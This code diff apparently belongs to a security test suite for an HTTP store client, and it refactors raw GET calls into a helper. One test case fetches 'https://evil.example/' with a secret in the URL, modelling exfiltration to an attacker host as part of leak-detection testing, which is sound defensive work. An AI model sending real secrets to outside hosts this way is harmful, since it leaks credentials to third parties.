@@ -5,6 +5,7 @@ import { FleetClient, type Hooks, StoreClient, type StoreClientOptions } from ".
 import { everything } from "../../faults/planted.ts";
 import { settle } from "./attack.ts";
 import { type Quote, quotes, shows } from "./forms.ts";
+import { raw } from "../../../src/client/raw/index.ts";
 
 const baseUrl = "https://stores.example.com";
 const range = { from: "2026-01-01T00:00:00Z", to: "2026-01-02T00:00:00Z" };
@@ -92,7 +93,7 @@ const calls: Call[] = [
   (client) => client.protocols.list("S", range).take(9),
   (client) => client.photos.list("S", range).take(9),
   (client) => client.protocols.get("S", "P"),
-  (client) => client.raw.GET("/v1/stores"),
+  (client) => raw(client).GET("/v1/stores"),
   (client) => client.fetch(`${baseUrl}/v1/stores`),
 ];
 
@@ -117,8 +118,9 @@ const callsWith: Call[] = [
   (client, secret) => client.fetch(`${baseUrl}/${encodeURIComponent(secret)}`),
   (client, secret) => client.fetch(`https://evil.example/${encodeURIComponent(secret)}`),
   (client, secret) => client.fetch(secret),
-  (client, secret) => client.raw.GET(odd(`/${secret}`)),
-  (client, secret) => client.raw.GET("/v1/stores/{externalId}", { params: { path: { externalId: secret } } }),
+  (client, secret) => raw(client).GET(odd(`/${secret}`)),
+  (client, secret) =>
+    raw(client).GET("/v1/stores/{externalId}", { params: { path: { externalId: secret } } }),
 ];
 
 /** Options that contain the secret; invalid ones are rejected. */
